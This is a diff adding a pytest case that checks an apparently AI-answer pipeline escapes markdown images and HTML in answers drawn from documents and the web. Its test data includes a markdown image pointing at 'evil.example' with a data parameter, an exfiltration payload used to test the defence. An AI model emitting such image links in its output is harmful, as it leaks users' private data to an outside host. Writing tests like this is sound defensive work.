@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+
 import pytest
 from pydantic import JsonValue
 
@@ -13,9 +15,11 @@ from handoff_queue.shared.types.handoff import Claim, HandoffResult, ResultStatu
 from handoff_queue.shared.types.ids import StepId
 from handoff_queue.shared.types.job_options import Mode
 from handoff_queue.shared.types.limits import JobLimits
+from handoff_queue.shared.types.origins import DOCUMENT, WEB
 from handoff_queue.shared.types.plan import Plan, Synthesis
 from handoff_queue.shared.types.step_events import MAX_RESTATED
 from handoff_queue.supervisor.lifecycle.answer import (
+    CLEANED_FORM,
     NOT_REVIEWED,
     assemble,
     choose_method,
@@ -363,6 +367,33 @@ def test_remarks_about_a_structured_answer_are_in_its_notes(
         "Prices are of 2024.",
         "Made without a language model.",
     )
+
+
+IMAGE, SHOWN = "![a](https://evil.example/?d=48713)", "\\![a](https://evil.example/?d=48713)"
+
+
+@pytest.mark.parametrize(
+    ("origins", "form", "shown"),
+    [
+        ((DOCUMENT, WEB), IMAGE, SHOWN),
+        ((DOCUMENT, WEB), {"a": [IMAGE, 1], IMAGE: 2}, {"a": [SHOWN, 1], SHOWN: 2}),
+        ((DOCUMENT,), {"a": "<img src=b>"}, {"a": "&lt;img src=b>"}),
+        ((DOCUMENT, WEB), {"a": "![b](chart.png)"}, {"a": "![b](chart.png)"}),
+        ((WEB,), {"a": IMAGE}, {"a": IMAGE}),
+    ],
+)
+def test_strings_of_a_form_that_could_carry_private_data_out_lose_images_and_html(
+    origins: tuple[str, ...], form: JsonValue, shown: JsonValue
+) -> None:
+    job = finish_as(job_with_schema(a=""), a="ok")
+    job.state = job.state.model_copy(update={"origins": origins})
+
+    answer = answer_of(job, a_result("a", form))
+
+    assert answer.content == shown
+    if not isinstance(shown, str):
+        assert json.loads(answer.text) == shown
+    assert (CLEANED_FORM in answer.notes) is (shown != form)
 
 
 @pytest.mark.parametrize("statuses", [{"a": "ok", "b": "ok"}, {"a": "ok", "b": "failed"}])
